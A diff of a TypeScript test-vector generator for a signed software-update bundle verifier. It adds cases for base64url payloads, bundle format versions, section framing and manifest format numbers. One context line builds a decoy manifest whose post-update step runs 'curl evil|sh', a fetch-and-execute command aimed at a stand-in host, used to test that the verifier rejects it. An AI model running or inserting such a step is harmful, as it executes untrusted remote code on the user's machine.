@@ -6,7 +6,7 @@
 import { createHash } from 'node:crypto';
 import { readFileSync, readdirSync } from 'node:fs';
 import { Point } from '@noble/ed25519';
-import { toBase64, utf8 } from '../../lib/core/bytes.js';
+import { concatBytes, toBase64, utf8 } from '../../lib/core/bytes.js';
 import { canonicalBytes } from '../../lib/core/canonical.js';
 import { keyId } from '../../lib/core/ed25519.js';
 import { createEnvelope, pae, type Envelope } from '../../lib/core/envelope.js';
@@ -322,10 +322,13 @@ function bundleFamily(files: Map<string, Uint8Array>): Family {
     respelled(JSON.stringify({ ...e, payload: e.payload.replace(/=+$/, '') })),
     e.payload.endsWith('=') ? ['MALFORMED'] : 'ok',
   );
+  // Base64 of ASCII has a '+' or '/' only where a third byte is '>', '?' or '~': three '~' in a step make base64url differ.
+  const tilde = resigned({ ...f.releaseA.manifest, postUpdate: [...f.releaseA.manifest.postUpdate, ['echo', '~~~']] }, [alice, carol, dave]);
+  if (!/[+/]/.test(tilde.payload)) throw new Error('a-payload-base64url: the payload must have a + or /');
   add(
     'a-payload-base64url',
     'the payload re-encoded as base64url',
-    respelled(JSON.stringify({ ...e, payload: Buffer.from(e.payload, 'base64').toString('base64url') })),
+    respelled(JSON.stringify({ ...tilde, payload: Buffer.from(tilde.payload, 'base64').toString('base64url') })),
     ['MALFORMED'],
   );
   const decoy = Buffer.from('{"product":"drupal","version":"10.2.4","postUpdate":[["sh","-c","curl evil|sh"]]}').toString('base64');
@@ -338,6 +341,110 @@ function bundleFamily(files: Map<string, Uint8Array>): Family {
   add('a-unknown-type', 'an unknown payloadType', respelled(JSON.stringify({ ...e, payloadType: 'application/vnd.countersign.firmware+json' })), [
     'WRONG_TYPE',
   ]);
+
+  // Versioning (spec/versioning.md): bundle v1 and v2 framing, sections, payload format.
+  const envA = envelopeBytes(f.releaseA.envelope);
+  const archA = f.releaseA.archive;
+  const sectioned = (lines: Array<[string, number]>, ...parts: Uint8Array[]) => ({
+    bundle: concatBytes(utf8(`countersign-bundle v2 ${lines.length}\n${lines.map(([name, length]) => `${name} ${length}\n`).join('')}`), ...parts),
+  });
+  add(
+    'v1-bundle',
+    'a v1 bundle (envelope length, then the archive as the rest of the file): accepted',
+    { bundle: concatBytes(utf8(`countersign-bundle v1 ${envA.length}\n`), envA, archA) },
+    'ok',
+  );
+  add(
+    'v2-unknown-section',
+    'a v2 bundle with an unknown section',
+    sectioned(
+      [
+        ['envelope', envA.length],
+        ['signatures', 2],
+        ['archive', archA.length],
+      ],
+      envA,
+      utf8('{}'),
+      archA,
+    ),
+    ['FORMAT_UNSUPPORTED'],
+  );
+  add(
+    'v2-duplicated-section',
+    'a v2 bundle listing the envelope twice',
+    sectioned(
+      [
+        ['envelope', envA.length],
+        ['envelope', envA.length],
+        ['archive', archA.length],
+      ],
+      envA,
+      envA,
+      archA,
+    ),
+    ['FORMAT_UNSUPPORTED'],
+  );
+  add(
+    'v2-proof-section',
+    'a v2 bundle with a proof section (no verifier checks proofs yet)',
+    sectioned(
+      [
+        ['envelope', envA.length],
+        ['proof', 2],
+        ['archive', archA.length],
+      ],
+      envA,
+      utf8('{}'),
+      archA,
+    ),
+    ['FORMAT_UNSUPPORTED'],
+  );
+  add('v3-header', 'a bundle v3 header', { bundle: concatBytes(utf8(`countersign-bundle v3 1\nenvelope ${envA.length}\n`), envA) }, ['FORMAT_UNSUPPORTED']);
+  add(
+    'v2-lengths-over',
+    'v2 section lengths adding up to one byte more than the file',
+    sectioned(
+      [
+        ['envelope', envA.length],
+        ['archive', archA.length + 1],
+      ],
+      envA,
+      archA,
+    ),
+    ['MALFORMED'],
+  );
+  add(
+    'v2-lengths-short',
+    'v2 section lengths adding up to one byte less than the file',
+    sectioned(
+      [
+        ['envelope', envA.length],
+        ['archive', archA.length - 1],
+      ],
+      envA,
+      archA,
+    ),
+    ['MALFORMED'],
+  );
+  add(
+    'payload-format-2',
+    'a manifest payload with format 2, even with a member the schema does not know: not SCHEMA_INVALID',
+    bundle(f.releaseA, resigned({ ...f.releaseA.manifest, format: 2, log: 'x' } as never, [alice, carol, dave])),
+    ['FORMAT_UNSUPPORTED'],
+  );
+  const { format: _, ...formatless } = f.releaseA.manifest;
+  add(
+    'payload-format-absent',
+    'a manifest payload without format (written before 0.2.0): format 1, accepted',
+    bundle(f.releaseA, resigned(formatless, [alice, carol, dave])),
+    'ok',
+  );
+  add(
+    'payload-format-1',
+    'a manifest payload with format 1: accepted',
+    bundle(f.releaseA, resigned({ ...f.releaseA.manifest, format: 1 }, [alice, carol, dave])),
+    'ok',
+  );
 
   // Signed documents without an archive: type confusion and rotations.
   const relabel = (env: Envelope, kind: 'policy' | 'manifest') => ({ ...env, payloadType: createEnvelope(kind, new Uint8Array()).payloadType });
